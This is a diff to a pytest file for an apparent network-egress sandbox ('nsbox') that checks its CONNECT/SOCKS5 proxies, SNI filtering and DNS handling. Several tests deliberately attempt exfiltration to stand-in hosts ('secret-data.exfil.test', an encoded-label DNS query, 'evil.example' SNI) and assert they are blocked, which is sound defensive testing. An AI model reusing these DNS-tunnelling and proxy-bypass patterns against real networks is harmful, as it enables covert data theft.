@@ -11,10 +11,34 @@ import tempfile
 import threading
 
 import pytest
-from conftest import run
+from conftest import NSBOX, run
 
 UP = "127.0.0.2"
 PY = "/usr/bin/python3.11"
+
+
+_ALL_CONNS = []
+
+
+class _Conns:
+    """Connections a test server holds open: the proxy's side closes when
+    the sandbox ends, the server's a moment later; each test waits for
+    that (conftest's host_intact counts this process's fds)."""
+    def __init__(self):
+        self.n = 0
+        self.lock = threading.Lock()
+        _ALL_CONNS.append(self)
+
+    def add(self, d):
+        with self.lock:
+            self.n += d
+
+    def settle(self, timeout=10):
+        import time
+        end = time.monotonic() + timeout
+        while self.n and time.monotonic() < end:
+            time.sleep(0.02)
+        assert self.n == 0, f"{self.n} upstream connections still open"
 
 
 class _Handler(http.server.BaseHTTPRequestHandler):
@@ -33,10 +57,27 @@ class _Handler(http.server.BaseHTTPRequestHandler):
 class _Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
     daemon_threads = True
 
+    def process_request(self, request, client_address):
+        self.conns.add(1)
+        super().process_request(request, client_address)
+
+    def shutdown_request(self, request):
+        super().shutdown_request(request)
+        self.conns.add(-1)
+
+
+@pytest.fixture(autouse=True)
+def _servers_settled():
+    """Torn down before conftest's host_intact looks at this process's fds."""
+    yield
+    for c in _ALL_CONNS:
+        c.settle()
+
 
 @pytest.fixture(scope="module")
 def upstream():
     srv = _Server((UP, 0), _Handler)
+    srv.conns = _Conns()
     t = threading.Thread(target=srv.serve_forever, daemon=True)
     t.start()
     yield srv.server_address[1]
@@ -50,22 +91,28 @@ def echo():
     s = socket.socket()
     s.bind(("127.0.0.1", 0))
     s.listen(8)
+    s.settimeout(0.2)   # see tcp_echo
     seen = []
+    conns = _Conns()
 
     def loop():
         while True:
             try:
                 c, _ = s.accept()
+            except socket.timeout:
+                continue
             except OSError:
                 return
-            c.settimeout(2)
+            conns.add(1)
+            c.settimeout(10)
             try:
                 seen.append(c.recv(65536))
             except OSError:
                 seen.append(b"")
             c.close()
+            conns.add(-1)
     threading.Thread(target=loop, daemon=True).start()
-    yield s.getsockname()[1], seen
+    yield s.getsockname()[1], seen, conns
     s.close()
 
 
@@ -155,7 +202,7 @@ print(json.dumps(R))
 
 
 def test_connect_checks_sni(echo):
-    port, seen = echo
+    port, seen, conns = echo
     rules = ["--allow-net", f"localhost:{port}", "--allow-net", f"127.0.0.1:{port}"]
     out, log = sandbox(rules, PRELUDE + f'''
 def hello(sni):
@@ -173,9 +220,12 @@ R["bad"] = hello("evil.example")
 print(json.dumps(R))
 ''')
     assert "ACCESS_DENIED" in out["bad"].upper()
+    conns.settle()
     got = [b for b in seen if b]
+    assert got, (out, log)
     assert len(got) == 1 and got[0][:1] == b"\x16" and b"localhost" in got[0]
-    d = [e for e in log if e["kind"] == "connect"]
+    # The two tunnels end in either order: the audit line is written at the end.
+    d = sorted((e for e in log if e["kind"] == "connect"), key=lambda e: e["sni"] != "localhost")
     assert [e["decision"] for e in d] == ["allow", "deny"]
     assert d[1]["sni"] == "evil.example" and "SNI" in d[1]["reason"]
 
@@ -243,3 +293,416 @@ def test_policy_checks():
     rc, out, _ = run(["policy", "show", "--allow-net", "*.example.com:8443", "--net-log", "/tmp/x.jsonl"])
     if rc == 0:
         assert "Allow=*.example.com:8443" in out and "Log=/tmp/x.jsonl" in out
+
+
+@pytest.fixture(scope="module")
+def tls_upstream(tmp_path_factory):
+    """An HTTPS server on 127.0.0.1 with a self-signed certificate for
+    localhost (openssl(1) makes it), serving / and /big (1 MiB)."""
+    import ssl
+    import subprocess
+    d = tmp_path_factory.mktemp("nsbox-test-tls")
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
+                    "-addext", "subjectAltName=DNS:localhost", "-keyout", str(d / "key.pem"), "-out",
+                    str(d / "cert.pem")], check=True, capture_output=True)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(str(d / "cert.pem"), str(d / "key.pem"))
+    srv = _Server(("127.0.0.1", 0), _Handler)
+    srv.conns = _Conns()
+    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+    t = threading.Thread(target=srv.serve_forever, daemon=True)
+    t.start()
+    yield srv.server_address[1]
+    srv.shutdown()
+    srv.server_close()
+
+
+# Inside: SOCKS5 spoken by hand (RFC 1928).
+SOCKS = r'''
+import struct
+def socks(atyp_addr, port, cmd=1, methods=b"\x00", payload=None):
+    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
+    s.sendall(b"\x05" + bytes([len(methods)]) + methods)
+    m = s.recv(2)
+    if m[1:] != b"\x00":
+        s.close(); return {"method": m.hex()}
+    if isinstance(atyp_addr, str):
+        a = b"\x03" + bytes([len(atyp_addr)]) + atyp_addr.encode()
+    else:
+        a = atyp_addr
+    s.sendall(b"\x05" + bytes([cmd]) + b"\x00" + a + struct.pack(">H", port))
+    rep = b""
+    while len(rep) < 10:
+        b = s.recv(10 - len(rep))
+        if not b: break
+        rep += b
+    r = {"rep": rep[1] if len(rep) > 1 else None}
+    if r["rep"] == 0 and payload is not None:
+        s.sendall(payload)
+        data = b""
+        while True:
+            b = s.recv(65536)
+            if not b: break
+            data += b
+        r["data"] = data.decode(errors="replace")
+    s.close()
+    return r
+'''
+
+
+def test_socks5(upstream, echo):
+    port, seen, conns = echo
+    nseen = len([b for b in seen if b])
+    rules = ["--allow-net", f"{UP}:{upstream}", "--allow-net", f"localhost:{port}", "--allow-net",
+             f"127.0.0.1:{port}", "--allow-net", f"localhost:{upstream}", "--allow-net", "*.allowed.test"]
+    get = f"GET / HTTP/1.1\\r\\nHost: {UP}:{upstream}\\r\\nConnection: close\\r\\n\\r\\n"
+    out, log = sandbox(rules, PRELUDE + SOCKS + f'''
+R["env"] = os.environ.get("ALL_PROXY")
+R["literal"] = socks(b"\\x01" + socket.inet_aton("{UP}"), {upstream}, payload=b"{get}")
+R["name_as_literal"] = socks("{UP}", {upstream}, payload=b"{get}")
+R["unlisted"] = socks("example.com", 443)
+R["private"] = socks("localhost", {upstream})
+R["no_rule_ip"] = socks(b"\\x01" + socket.inet_aton("127.0.0.1"), {upstream})
+R["public_ip"] = socks(b"\\x01" + socket.inet_aton("192.0.2.1"), 443)   # refused before any connect
+R["v6"] = socks(b"\\x04" + socket.inet_pton(socket.AF_INET6, "::1"), {upstream})
+R["unresolvable"] = socks("nx.allowed.test", 443)
+R["bind"] = socks("localhost", {port}, cmd=2)
+R["udp"] = socks("localhost", {port}, cmd=3)
+R["atyp"] = socks(b"\\x07\\x01\\x02\\x03\\x04", {port})
+R["auth_only"] = socks("localhost", {port}, methods=b"\\x02")
+R["badname"] = socks("exa mple.com", 443)
+s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
+s.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x09localhost" + struct.pack(">H", {port}))
+got = b""
+while len(got) < 12:
+    got += s.recv(12 - len(got))
+R["pipelined"] = got.hex()
+ctx = ssl.create_default_context()
+try:
+    ctx.wrap_socket(s, server_hostname="evil.example").close()
+except (ssl.SSLError, OSError) as e:
+    R["sni"] = str(e)
+print(json.dumps(R))
+''')
+    assert out["env"] == "socks5h://127.0.0.1:1080"
+    assert out["literal"]["rep"] == 0 and "hello from upstream" in out["literal"]["data"]
+    assert out["name_as_literal"]["rep"] == 0 and "hello from upstream" in out["name_as_literal"]["data"]
+    assert out["unlisted"]["rep"] == 2          # connection not allowed by ruleset
+    assert out["private"]["rep"] == 2           # localhost resolves to loopback: no address rule
+    assert out["no_rule_ip"]["rep"] == 2
+    assert out["public_ip"]["rep"] == 2
+    assert out["v6"]["rep"] == 2
+    assert out["unresolvable"]["rep"] == 4      # host unreachable
+    assert out["bind"]["rep"] == 7 and out["udp"]["rep"] == 7   # command not supported
+    assert out["atyp"]["rep"] == 8              # address type not supported
+    assert out["auth_only"] == {"method": "05ff"}
+    assert out["badname"]["rep"] == 4
+    # Greeting and request in one write; then a ClientHello for another name.
+    assert out["pipelined"] == "0500" + "05000001" + "00000000" + "0000"
+    assert "ACCESS_DENIED" in out["sni"].upper()
+    conns.settle()
+    assert len([b for b in seen if b]) == nseen  # the refused hello never left
+    s = [e for e in log if e["kind"] == "socks"]
+    by = {(e["host"], e["port"]): e for e in s}
+    assert by[(UP, upstream)]["decision"] == "allow" and by[(UP, upstream)]["bytes_in"] > 20
+    assert by[("example.com", 443)]["reason"] == "name not on the allowlist"
+    assert "loopback" in by[("localhost", upstream)]["reason"]
+    assert by[("::1", upstream)]["decision"] == "deny"
+    assert by[("192.0.2.1", 443)]["reason"] == "address not on the allowlist"
+    assert by[("nx.allowed.test", 443)]["reason"] == "cannot resolve the name on the host"
+    reasons = [e["reason"] for e in s]
+    assert "SOCKS BIND is not supported" in reasons and "SOCKS UDP ASSOCIATE is not supported" in reasons
+    assert "SOCKS address type not supported" in reasons
+    assert "SOCKS5 without the no-authentication method" in reasons
+    assert any(e["sni"] == "evil.example" and "SNI" in e["reason"] for e in s)
+
+
+def test_curl_https_through_both_proxies(tls_upstream):
+    # A real TLS fetch by name: curl through HTTPS_PROXY (CONNECT) and
+    # through SOCKS5 with remote resolution; nothing without a proxy.
+    port = tls_upstream
+    rules = ["--allow-net", f"localhost:{port}", "--allow-net", f"127.0.0.1:{port}"]
+    with tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl") as log:
+        rc, out, err = run(["run", "--net-log", log.name] + rules + ["--", "/bin/sh", "-c", f'''
+unset NO_PROXY no_proxy
+echo "connect: $(curl -sSk https://localhost:{port}/ 2>&1)"
+echo "socks: $(curl -sSk --socks5-hostname 127.0.0.1:1080 https://localhost:{port}/ 2>&1)"
+echo "direct: $(curl -sSk --noproxy '*' https://localhost:{port}/ 2>&1 | head -c 60)"
+'''])
+        entries = [json.loads(line) for line in open(log.name) if line.strip()]
+    assert rc == 0, err
+    lines = dict(line.split(": ", 1) for line in out.strip().splitlines())
+    assert lines["connect"] == "hello from upstream"
+    assert lines["socks"] == "hello from upstream"
+    assert "hello" not in lines["direct"]
+    kinds = [(e["kind"], e["decision"], e["sni"]) for e in entries]
+    assert ("connect", "allow", "localhost") in kinds and ("socks", "allow", "localhost") in kinds
+
+
+# A resolver for the host side: answers A queries with 192.0.2.7 (TEST-NET-1:
+# nothing is ever sent there) and records every name it is asked.
+RESOLVER = r'''
+import socket, struct, sys
+log, ready = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.53", 53))
+open(ready, "w").close()
+while True:
+    q, peer = s.recvfrom(2048)
+    if len(q) < 17:
+        continue
+    p, labels = 12, []
+    while q[p]:
+        labels.append(q[p + 1:p + 1 + q[p]].decode(errors="replace"))
+        p += 1 + q[p]
+    qtype = struct.unpack(">H", q[p + 1:p + 3])[0]
+    with open(log, "a") as f:
+        f.write(".".join(labels).lower() + " %d\n" % qtype)
+    qend = p + 5
+    an = b""
+    if qtype == 1:
+        an = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([192, 0, 2, 7])
+    hdr = q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1 if an else 0, 0, 0)
+    s.sendto(hdr + q[12:qend] + an, peer)
+'''
+
+
+def test_unlisted_names_never_reach_the_upstream_resolver(tmp_path):
+    """The host side resolves with the host's resolver (getaddrinfo and
+    /etc/resolv.conf).  Here the test makes its own network and mount
+    namespace (and, unprivileged, a user namespace to own them), where
+    /etc/resolv.conf names a resolver the test runs on 127.0.0.53, and runs
+    nsbox there: that resolver must see the listed names the sandbox asks
+    for, and none of the others."""
+    import subprocess
+    d = tmp_path
+    (d / "resolv.conf").write_text("nameserver 127.0.0.53\noptions attempts:1 timeout:2\n")
+    (d / "resolver.py").write_text(RESOLVER)
+    (d / "queries.log").write_text("")
+    inside = PRELUDE + r'''
+def q(name):
+    try:
+        return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
+    except socket.gaierror as e:
+        return e.errno
+R["listed"] = q("api.listed.test")
+R["unlisted"] = q("secret-data.exfil.test")
+R["unlisted_txt"] = q("c2VjcmV0.exfil.test.")
+R["proxy_unlisted"] = raw("CONNECT more-secrets.exfil.test:443 HTTP/1.1\r\n\r\n")
+s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
+s.sendall(b"\x05\x01\x00\x05\x01\x00\x03\x17socks-secret.exfil.test\x01\xbb")
+got = b""
+while len(got) < 12:
+    b = s.recv(12 - len(got))
+    if not b: break
+    got += b
+R["socks_unlisted"] = got.hex()
+R["proxy_listed"] = raw("CONNECT www.listed.test:443 HTTP/1.1\r\n\r\n")
+print(json.dumps(R))
+'''
+    (d / "inside.py").write_text(inside)
+    script = f'''set -e
+ip link set lo up
+mount --bind {d}/resolv.conf /etc/resolv.conf
+{PY} {d}/resolver.py {d}/queries.log {d}/ready &
+r=$!
+i=0; while [ ! -e {d}/ready ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
+set +e
+setpriv --inh-caps=-all --ambient-caps=-all {NSBOX} run --net-log {d}/net.jsonl --ro-bind {d}/inside.py:/inside.py \
+    --allow-net '*.listed.test' -- {PY} /inside.py
+rc=$?
+kill $r; wait $r 2>/dev/null
+exit $rc
+'''
+    ns = ["unshare", "--mount", "--net"]
+    if os.geteuid() != 0:
+        ns = ["unshare", "--user", "--map-current-user", "--keep-caps", "--mount", "--net"]
+    p = subprocess.run(ns + ["sh", "-c", script], capture_output=True, timeout=120)
+    assert p.returncode == 0, p.stderr.decode(errors="replace")
+    out = json.loads(p.stdout.decode().strip().splitlines()[-1])
+    asked = [line.split()[0] for line in (d / "queries.log").read_text().splitlines()]
+    assert out["listed"] == ["192.0.2.7"]
+    assert out["unlisted"] == socket.EAI_NONAME and out["unlisted_txt"] == socket.EAI_NONAME
+    assert out["proxy_unlisted"][1] == "name not on the allowlist"
+    assert out["socks_unlisted"][:8] == "05000502"   # no auth; not allowed by ruleset
+    # The listed name resolved on the host side, then found no route out of
+    # the test's namespace (192.0.2.7 is never reached).
+    assert out["proxy_listed"][0].startswith("HTTP/1.1 502")
+    assert "api.listed.test" in asked and "www.listed.test" in asked
+    assert not [n for n in asked if "exfil" in n], asked
+    log = [json.loads(line) for line in open(d / "net.jsonl")]
+    assert {e["host"] for e in log if e["decision"] == "deny"} >= {"secret-data.exfil.test", "c2vjcmv0.exfil.test",
+                                                                   "more-secrets.exfil.test",
+                                                                   "socks-secret.exfil.test"}
+
+
+def test_pip_install_from_an_allowed_index(tmp_path):
+    """pip, unchanged, through HTTP_PROXY: a wheel built here from a tiny
+    source package (Debian's setuptools and wheel), served from a PEP 503
+    simple index on 127.0.0.2, installed inside into a --target in /tmp."""
+    import functools
+    import hashlib
+    import subprocess
+    src = tmp_path / "src" / "nsbox_egress_demo"
+    src.mkdir(parents=True)
+    (src / "__init__.py").write_text('GREETING = "hi from a wheel"\n')
+    (tmp_path / "src" / "setup.py").write_text(
+        'from setuptools import setup\nsetup(name="nsbox-egress-demo", version="1.0", packages=["nsbox_egress_demo"])\n')
+    p = subprocess.run([PY, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "--no-index",
+                        "--disable-pip-version-check", "-w", str(tmp_path / "index" / "files"), "./src"],
+                       cwd=tmp_path, capture_output=True, timeout=120)
+    assert p.returncode == 0, p.stderr.decode(errors="replace")
+    whl = next((tmp_path / "index" / "files").glob("*.whl"))
+    sha = hashlib.sha256(whl.read_bytes()).hexdigest()
+    proj = tmp_path / "index" / "simple" / "nsbox-egress-demo"
+    proj.mkdir(parents=True)
+    (tmp_path / "index" / "simple" / "index.html").write_text(
+        '<!DOCTYPE html><html><body><a href="nsbox-egress-demo/">nsbox-egress-demo</a></body></html>\n')
+    (proj / "index.html").write_text(
+        f'<!DOCTYPE html><html><body><a href="../../files/{whl.name}#sha256={sha}">{whl.name}</a></body></html>\n')
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path / "index"))
+    srv = _Server((UP, 0), handler)
+    srv.conns = _Conns()
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    port = srv.server_address[1]
+    try:
+        with tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl") as log:
+            rc, out, err = run(["run", "--net-log", log.name, "--allow-net", f"{UP}:{port}", "--", "/bin/sh", "-c", f'''
+set -e
+{PY} -m pip install -q --no-cache-dir --disable-pip-version-check --index-url http://{UP}:{port}/simple/ \
+    --target /tmp/t nsbox-egress-demo
+PYTHONPATH=/tmp/t {PY} -c "import nsbox_egress_demo; print(nsbox_egress_demo.GREETING)"
+'''], timeout=180)
+            entries = [json.loads(line) for line in open(log.name) if line.strip()]
+    finally:
+        srv.shutdown()
+        srv.server_close()
+    assert rc == 0, err
+    assert out.strip().splitlines()[-1] == "hi from a wheel"
+    got = [e for e in entries if e["kind"] == "http" and e["decision"] == "allow"]
+    assert got and all(e["addr"] == UP and e["port"] == port for e in got)
+    assert sum(e["bytes_in"] for e in got) > whl.stat().st_size
+
+
+@pytest.fixture(scope="module")
+def tcp_echo():
+    """A TCP echo server on 127.0.0.2, a thread per connection."""
+    s = socket.socket()
+    s.bind((UP, 0))
+    s.listen(256)
+    # With a timeout, accept() polls first: a thread blocked in accept(2)
+    # holds an fd number reserved, which moves conftest's fd listing.
+    s.settimeout(0.2)
+    conns = _Conns()
+
+    def serve(c):
+        with c:
+            while True:
+                try:
+                    b = c.recv(65536)
+                    if not b:
+                        break
+                    c.sendall(b)
+                except OSError:
+                    break
+        conns.add(-1)
+
+    def loop():
+        while True:
+            try:
+                c, _ = s.accept()
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            c.settimeout(None)
+            conns.add(1)
+            threading.Thread(target=serve, args=(c,), daemon=True).start()
+    threading.Thread(target=loop, daemon=True).start()
+    yield s.getsockname()[1], conns
+    s.close()
+
+
+def test_many_open_tunnels_and_backpressure(tcp_echo):
+    # More tunnels open at once than the proxy has setup threads (64): the
+    # established ones are relayed by one event loop.  Then 4 MiB each way
+    # through one tunnel, written while read (flow control end to end).
+    port, conns = tcp_echo
+    out, log = sandbox(["--allow-net", f"{UP}:{port}"], PRELUDE + f'''
+import hashlib, threading
+N = 100
+socks = []
+for i in range(N):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
+    s.sendall(b"CONNECT {UP}:{port} HTTP/1.1\\r\\n\\r\\n")
+    head = b""
+    while b"\\r\\n\\r\\n" not in head:
+        b = s.recv(1)
+        if not b: break
+        head += b
+    assert head.startswith(b"HTTP/1.1 200"), (i, head)
+    socks.append(s)
+ok = 0
+for i, s in enumerate(socks):
+    s.sendall(b"ping %d" % i)
+    if s.recv(100) == b"ping %d" % i:
+        ok += 1
+R["echoed"] = ok
+data = os.urandom(4 << 20)
+s = socks[0]
+t = threading.Thread(target=s.sendall, args=(data,))
+t.start()
+got = bytearray()
+while len(got) < len(data):
+    b = s.recv(1 << 20)
+    if not b: break
+    got += b
+t.join()
+R["big"] = hashlib.sha256(got).hexdigest() == hashlib.sha256(data).hexdigest()
+for s in socks:
+    s.close()
+print(json.dumps(R))
+''', timeout=120)
+    assert out["echoed"] == 100 and out["big"]
+    conns.settle()
+    tunnels = [e for e in log if e["kind"] == "connect"]
+    assert len(tunnels) == 100 and all(e["decision"] == "allow" for e in tunnels)
+    assert sum(e["bytes_out"] for e in tunnels) >= (4 << 20) and sum(e["bytes_in"] for e in tunnels) >= (4 << 20)
+
+
+def test_tunnel_open_at_the_end_is_audited():
+    # The destination never closes: the tunnel is still open when the
+    # sandbox ends, and its audit line is written then.
+    s = socket.socket()
+    s.bind((UP, 0))
+    s.listen(8)
+    s.settimeout(0.2)
+    held = []
+
+    def loop():
+        while True:
+            try:
+                c, _ = s.accept()
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            held.append(c)
+    t = threading.Thread(target=loop, daemon=True)
+    t.start()
+    port = s.getsockname()[1]
+    try:
+        out, log = sandbox(["--allow-net", f"{UP}:{port}"], PRELUDE + f'''
+c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+c.sendall(b"CONNECT {UP}:{port} HTTP/1.1\\r\\n\\r\\nhello")
+R["head"] = c.recv(100).decode()
+print(json.dumps(R))
+''')
+    finally:
+        s.close()
+        t.join()
+        for c in held:
+            c.close()
+    assert out["head"].startswith("HTTP/1.1 200")
+    e = [e for e in log if e["kind"] == "connect"]
+    assert len(e) == 1 and e[0]["reason"] == "the sandbox ended" and e[0]["bytes_out"] == 5, log
